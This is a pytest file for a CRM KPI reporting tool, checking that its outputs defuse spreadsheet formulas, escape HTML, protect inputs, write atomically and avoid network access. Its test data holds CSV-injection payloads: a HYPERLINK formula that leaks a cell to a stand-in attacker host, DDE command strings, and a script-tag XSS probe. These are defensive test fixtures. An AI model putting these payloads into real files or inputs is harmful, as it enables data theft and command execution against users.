"""Outputs are safe to open, never clobber inputs, appear whole or not at all; no network; same
input, same numbers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crmkpi.cli import app

# Values a spreadsheet would run as formulas (OWASP CSV injection list), put in every text
# column a deal has: owner, name, stage, source, id.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_export(folder: Path) -> Path:
    """Deals whose text cells are all formula-like; two of them won, one lost, one open."""
    rows = [["Deal ID", "Deal Name", "Deal Owner", "Source", "Deal Stage", "Amount",
             "Create Date", "Close Date"]]  # fmt: skip
    stages = ["Closed Won", "Closed Won", "Closed Lost", "Proposal", "Closed Lost", "Proposal"]
    for i, (text, stage) in enumerate(zip(HOSTILE, stages, strict=True)):
        closed = f"2024-02-{10 + i:02d}" if stage.startswith("Closed") else ""
        rows.append(
            [f"{text}#{i}", text, text, text, stage, str(100 * (i + 1)), f"2024-01-{i + 1:02d}",
             closed]
        )  # fmt: skip
    # One bad amount that is itself a formula, so the rejects file carries one too.
    rows.append(["D-bad", "Bad", "Ann", "Web", "Proposal", "=1+1", "2024-01-20", ""])
    path = folder / "deals.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_csv_defused(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert live == []
    return cells


def test_xlsx_output_holds_no_formula_from_the_data(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    hostile_export(tmp_path)
    code, _, err = invoke("report", "deals.csv", "--out", "report.xlsx")
    assert code == 0, err
    book = load_workbook(tmp_path / "report.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # The hostile owner names are in the workbook (as text), not dropped.
    assert any(t.lstrip("'").startswith('=HYPERLINK("http://attacker') for t in texts)
    # And no <f> element in any sheet's XML, whatever a reader library would make of it.
    with zipfile.ZipFile(tmp_path / "report.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def test_csv_outputs_defuse_formulas(tmp_path: Path) -> None:
    hostile_export(tmp_path)
    for table in ("kpis", "owners", "alerts"):
        code, out, err = invoke("report", "deals.csv", "--format", "csv", "--table", table)
        assert code == 0, err
        cells = _assert_csv_defused(out)
        if table == "owners":  # the owner names survive, prefixed with an apostrophe
            assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells


def test_rejects_csv_defuses_formulas(tmp_path: Path) -> None:
    hostile_export(tmp_path)
    code, _, err = invoke(
        "report", "deals.csv", "--format", "json", "--rejects", "rejects.csv"
    )  # fmt: skip
    assert code == 0, err
    cells = _assert_csv_defused((tmp_path / "rejects.csv").read_text(encoding="utf-8"))
    assert "'=1+1" in cells  # the bad amount, kept for the user to see, but inert


def test_html_escapes_markup_from_the_data(tmp_path: Path) -> None:
    path = tmp_path / "deals.csv"
    path.write_text(
        "Deal ID,Deal Owner,Deal Stage,Amount,Create Date,Close Date\n"
        "D1,<script>alert(1)</script>,Closed Won,10,2024-01-01,2024-01-05\n",
        encoding="utf-8",
    )
    code, _, err = invoke("report", "deals.csv", "--out", "report.html")
    assert code == 0, err
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "target",
    ["deals.csv", "./sub/../deals.csv", "link.csv", "hardlink.csv"],
)
@pytest.mark.parametrize("option", ["--out", "--rejects"])
def test_outputs_never_overwrite_an_input(tmp_path: Path, target: str, option: str) -> None:
    path = hostile_export(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(path)
    os.link(path, tmp_path / "hardlink.csv")
    before = path.read_bytes()
    code, _, err = invoke("report", "deals.csv", "--format", "json", option, target)
    assert code == 2, err
    assert "refusing to overwrite the input file" in err
    assert path.read_bytes() == before


def test_output_is_atomic_when_writing_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile_export(tmp_path)
    out = tmp_path / "report.json"
    out.write_text("previous report\n", encoding="utf-8")

    def disk_full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    code, _, err = invoke("report", "deals.csv", "--out", str(out))
    assert code != 0
    assert "Traceback" not in err
    assert out.read_text(encoding="utf-8") == "previous report\n"  # old file intact
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deals.csv", "report.json"]  # no temp


def test_output_replaces_the_file_whole(tmp_path: Path) -> None:
    hostile_export(tmp_path)
    out = tmp_path / "report.json"
    out.write_text("previous report\n", encoding="utf-8")
    with out.open(encoding="utf-8") as reader:  # a reader that opened the old report...
        code, _, err = invoke("report", "deals.csv", "--out", str(out))
        assert code == 0, err
        assert reader.read() == "previous report\n"  # ...still reads it whole
    assert json.loads(out.read_text(encoding="utf-8"))["kpis"]["deals_total"]["value"] == 7
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deals.csv", "report.json"]


def test_no_network_access_in_a_full_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts: list[object] = []

    def refuse(*args: object, **_: object) -> None:
        attempts.append(args)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    (tmp_path / "deals.csv").write_text(
        "Deal ID,Deal Owner,Deal Stage,Amount,Currency,Create Date,Close Date\n"
        "D1,Ann,Closed Won,100,USD,2024-01-02,2024-01-20\n"
        "D2,Bob,Closed Won,100,EUR,2024-01-03,2024-01-22\n"
        "D3,Bob,Proposal,50,GBP,2024-01-04,\n",
        encoding="utf-8",
    )
    # A base currency makes the report convert amounts: rates must come from the bundled file.
    (tmp_path / "crmkpi.toml").write_text('[currency]\nbase = "EUR"\n', encoding="utf-8")
    code, _, err = invoke("report", "deals.csv", "--out", "r.json")
    assert code == 0, err
    revenue = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["kpis"]["revenue_won"]
    assert revenue["value"] is not None and revenue["value"] > 100  # 100 EUR + 100 USD in EUR
    # Every other renderer, on the same report model.
    import crmkpi.api as api
    from crmkpi.reporting.output import FORMATS, renderer

    report = api.report(api.load("deals.csv"))
    for fmt in FORMATS:
        if fmt != "terminal":
            assert renderer(fmt).render(report), fmt
    code, _, err = invoke("report", "deals.csv")  # terminal
    assert code == 0, err
    assert attempts == []


def _report_without_timestamp(tmp_path: Path, seed: str) -> dict[str, object]:
    env = {**os.environ, "PYTHONHASHSEED": seed}
    out = subprocess.run(
        [sys.executable, "-m", "crmkpi", "report", "deals.csv", "--format", "json"],
        capture_output=True, text=True, cwd=tmp_path, env=env, check=True,
    )  # fmt: skip
    doc = json.loads(out.stdout)
    doc.pop("generated_at")
    return doc


def test_same_input_same_json(tmp_path: Path) -> None:
    """Two processes with different hash seeds (so set and dict orders of strings differ)."""
    hostile_export(tmp_path)
    first = _report_without_timestamp(tmp_path, "1")
    second = _report_without_timestamp(tmp_path, "2")
    assert first == second
    assert first["kpis"]["deals_total"]["value"] == 7  # six hostile rows and D-bad
